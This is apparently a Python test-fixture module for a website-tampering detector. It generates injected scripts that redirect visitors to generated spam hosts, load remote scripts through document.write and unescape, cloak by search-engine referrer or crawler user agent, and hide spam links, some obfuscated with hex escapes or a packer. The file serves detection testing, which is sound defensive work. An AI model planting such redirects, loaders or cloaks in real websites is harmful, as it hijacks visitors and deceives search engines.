"""Script tampering: loaders, redirects and cloaks, plain, obfuscated or in bracket notation."""

from __future__ import annotations

import random

from tests.tampering import vocab
from tests.tampering.encode import escape, hex_escaped, obfuscate, pack
from tests.tampering.inject import insert, insert_somewhere


def _spam_url(rng: random.Random) -> str:
    return f"http://{vocab.spam_host(rng, suspicious=rng.random() < 0.3)}/"


def payload(rng: random.Random) -> str:
    """A malicious snippet: a redirect, a loader or a referrer cloak."""
    kind = rng.randrange(3)
    url = _spam_url(rng)
    if kind == 0:
        return f'window.location.href="{url}";'
    if kind == 1:
        src = f"{url}js/{rng.choice(['tj', 'count', 'jquery.min', 'common'])}.js"
        return f"document.write('<script src=\"{src}\"><\\/script>');"
    engine = rng.choice(vocab.ENGINES)
    return f'if(document.referrer.indexOf("{engine}")>-1){{top.location.href="{url}";}}'


def spam_block(rng: random.Random) -> str:
    """document.write of a hidden block of spam links."""
    links = vocab.spam_links(rng, rng.randint(2, 5)).replace("'", "\\'").replace('"', '\\"')
    return f"document.write('<div style=\"display:none\">{links}</div>');"


def obfuscated_spam_links(page: str, rng: random.Random) -> str:
    """Spam links written by a script under one layer (not the packer): seo-spam reads them."""
    while True:
        kind, script = obfuscate(spam_block(rng), rng)
        if kind != "packer":
            return insert_somewhere(page, f"<script>{script}</script>", rng)


def packed_spam_links(page: str, rng: random.Random) -> str:
    """Spam links under the packer: injected-script (the packer hides any payload; the
    finding quotes what it writes)."""
    return insert_somewhere(page, f"<script>{pack(spam_block(rng))}</script>", rng)


def obfuscated(page: str, rng: random.Random) -> str:
    """A payload under one layer: unescape, atob, fromCharCode (inline or array), \\x, packer."""
    _, script = obfuscate(payload(rng), rng)
    return insert_somewhere(page, f"<script>{script}</script>", rng)


def unescape_loader(page: str, rng: random.Random) -> str:
    """The classic: document.write(unescape('%3Cscript src=...')) of a planted script."""
    src = f"{_spam_url(rng)}{rng.choice(['a', 'tj', 'js/c'])}.js"
    html = f'<script type="text/javascript" src="{src}"></script>'
    return insert_somewhere(
        page, f"<script>document.write(unescape('{escape(html)}'));</script>", rng
    )


def hex_names(page: str, rng: random.Random) -> str:
    """Property names and the address as \\x escapes: window["\\x6c..."]["\\x68..."]=..."""
    url = hex_escaped(_spam_url(rng))
    code = f'window["{hex_escaped("location")}"]["{hex_escaped("href")}"]="{url}";'
    if rng.random() < 0.5:
        code = f'var _0x1a2b=["{hex_escaped("referrer")}","{hex_escaped("baidu")}"];' + (
            f"if(document[_0x1a2b[0]].indexOf(_0x1a2b[1])>-1){{{code}}}"
        )
    return insert_somewhere(page, f"<script>{code}</script>", rng)


def referrer_cloak(page: str, rng: random.Random) -> str:
    """Visitors from a search engine are sent elsewhere; bracket notation half of the time."""
    url = _spam_url(rng)
    engines = "|".join(rng.sample(vocab.ENGINES, 3))
    if rng.random() < 0.5:
        code = (
            'var r=window["document"]["referrer"];'
            f'if(/({engines})/i.test(r)){{window["location"]["href"]="{url}";}}'
        )
    else:
        action = rng.choice(
            [
                f'location.replace("{url}")',
                f'setTimeout(function(){{top.location.href="{url}"}},500)',
                f'document.write(\'<iframe src="{url}" width="100%" height="100%" '
                'frameborder="0"></iframe>\')',
            ]
        )
        code = f"var ref=document.referrer;if(ref.match(/{engines}/i)){{{action};}}"
    return insert(page, f"<script>{code}</script>", rng.choice(["head", "body-start"]))


def ua_cloak(page: str, rng: random.Random) -> str:
    """A user-agent test for crawlers, then a redirect, a title rewrite or a spam write."""
    spiders = "|".join(rng.sample(vocab.SPIDERS, 3)).lower()
    action = rng.randrange(4)
    if action == 0:
        body = f'window.location.href="{_spam_url(rng)}";'
    elif action == 1:
        body = f'document.title="{rng.choice(vocab.TITLES)}";'
    elif action == 2:
        links = vocab.spam_links(rng, 3).replace("'", "\\'")
        body = f"document.write('{links}');"
    else:
        return insert(
            page,
            (
                "<script>var u=navigator.userAgent;"
                f'if(!/{spiders}|spider|bot/i.test(u)){{location.href="{_spam_url(rng)}";}}</script>'
            ),
            "head",
        )
    code = f"var ua=navigator.userAgent.toLowerCase();if(/{spiders}/.test(ua)){{{body}}}"
    return insert(page, f"<script>{code}</script>", rng.choice(["head", "body-start"]))


def unconditional_redirect(page: str, rng: random.Random) -> str:
    """Every visitor is sent to another site, by script or meta refresh."""
    url = _spam_url(rng)
    snippet = rng.choice(
        [
            f'<script>top.location.href="{url}";</script>',
            f"<script>location.replace('{url}');</script>",
            f'<script>self.location="{url}";</script>',
            f'<script>window.location="{url}"</script>',
            f'<script>setTimeout(function(){{window.location.href="{url}"}},1000);</script>',
            f'<meta http-equiv="refresh" content="0;url={url}">',
        ]
    )
    return insert(page, snippet, rng.choice(["head", "body-start", "body-end"]))


def foreign_script(page: str, rng: random.Random) -> str:
    """A script from a host with a trait knowable offline, on a first probe (no baseline)."""
    scheme = rng.choice(["http://", "https://", "//"])
    src = f"{scheme}{vocab.script_host(rng)}/{rng.choice(['js/jquery.min', 'tj', 'c', 'stat'])}.js"
    where = rng.choice(["head", "body-start", "body-end", "before-html", "after-html"])
    return insert(page, f'<script type="text/javascript" src="{src}"></script>', where)
